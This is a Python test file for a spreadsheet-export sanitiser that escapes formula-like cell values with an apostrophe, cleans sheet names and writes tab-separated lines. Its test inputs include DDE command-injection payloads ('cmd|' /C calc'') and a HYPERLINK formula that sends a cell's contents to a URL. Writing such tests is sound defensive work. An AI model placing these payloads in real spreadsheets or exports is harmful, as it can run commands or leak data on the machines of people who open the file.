"""What a spreadsheet would work out is kept from it; what it may work with stays as it is."""

from __future__ import annotations

import pytest

from apprentice_desk.domain.plain_cells import as_lines, as_plain, sheet_name


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        "+1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1,2)",
        '=HYPERLINK("http://example.org/?"&A1,"Ada")',
        "|calc",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        " =1+1",
        "\u200b=1+1",
        "\ufeff=1+1",
        "\x00=1+1",
        "\uff1d1+1",
        "-Ada",
        "+44 20 7946 0000 x=1",
        "=",
        "-1-1|x",
    ],
)
def test_what_would_be_worked_out_stands_behind_an_apostrophe(text):
    assert as_plain(text) == f"'{text}"
    assert as_plain(as_plain(text)) == f"'{text}"


@pytest.mark.parametrize(
    "text",
    ["", "Ada King", "O'Neil", "1=1", "a@b.example", "-12:30", "-7.5", "+3", "-£1,250.00", "-",
     "-4.5%", "-3 h", "2026-11-24", "  ", "'=1"],
)  # fmt: skip
def test_words_and_figures_stay_as_they_are(text):
    assert as_plain(text) == text


@pytest.mark.parametrize(
    ("text", "name"),
    [
        ("Apprentices", "Apprentices"),
        ("Hours of A/B [x]: *?\\", "Hours of A B x"),
        ("'quoted'", "quoted"),
        ("x" * 40, "x" * 31),
        ("[]", "List"),
        ("", "List"),
        ("a\nb\x00c", "a b c"),
    ],
)
def test_a_sheet_is_called_as_workbooks_allow(text, name):
    assert sheet_name(text) == name


def test_rows_are_lines_with_tabs_and_each_cell_is_one():
    assert as_lines([("Name", "What"), ("Ada\tKing", "=1\n+1")]) == "Name\tWhat\nAda King\t'=1 +1\n"
